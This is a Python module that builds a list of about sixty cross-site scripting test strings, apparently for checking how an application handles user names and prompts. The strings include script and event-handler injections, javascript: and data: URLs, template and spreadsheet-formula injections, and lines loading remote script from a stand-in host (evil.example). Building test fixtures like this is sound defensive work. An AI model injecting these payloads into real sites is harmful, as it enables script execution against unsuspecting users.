"""Texts that have run scripts on somebody's page: sixty of them, for names and prompts.

Families after OWASP's "XSS Filter Evasion" and PortSwigger's cheat sheet; all of our own writing. Each would open a
dialog, or set `window.broken`, if a page took it for HTML, for an address, or for a template.
"""

_ACT = "alert(1)"
_TAGS = (
    "img src=x onerror",
    "svg onload",
    "body onload",
    "video src=x onerror",
    "audio src=x onerror",
    "input autofocus onfocus",
)
_MORE_TAGS = ("details open ontoggle", "select autofocus onfocus", "textarea autofocus onfocus", "marquee onstart")
_BREAKS = ("", '"', "'", "`", "-->", "</title>", "</textarea>", "</script>")
_SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script>window.broken=1</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x20type=module>alert(1)</script>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#115;cript:alert(1)'>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>'></svg>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "![x](x'onerror='alert(1))",
    "<javascript:alert(1)>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{alert(1)}",
    "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
    "&lt;img src=x onerror=alert(1)&gt;",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "'-alert(1)-'",
    '"+alert(1)+"',
    "=cmd|'/c calc'!A1",
    "__proto__",
    "<div style=animation-name:x onanimationstart=alert(1)>",
)

PAYLOADS = tuple(
    dict.fromkeys(
        [
            *_SCRIPTS,
            *(f"<{tag}={_ACT}>" for tag in (*_TAGS, *_MORE_TAGS)),
            *(f"{end}><img src=x onerror={_ACT}>" for end in _BREAKS),
            *(f"{end} onmouseover={_ACT} autofocus onfocus={_ACT} x=" for end in ('"', "'", "`", "a")),
        ]
    )
)
"""Each at most 100 printable characters, as long as a name may be."""
